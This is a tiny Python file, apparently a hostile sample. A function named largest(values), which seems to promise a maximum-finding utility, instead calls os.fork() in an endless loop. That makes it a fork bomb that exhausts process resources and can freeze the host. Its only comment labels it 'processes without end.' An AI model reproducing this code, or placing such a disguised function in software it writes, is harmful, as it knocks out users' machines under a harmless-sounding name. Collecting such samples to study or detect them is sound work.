# Resources: processes without end.
import os


def largest(values):
    while True:
        os.fork()
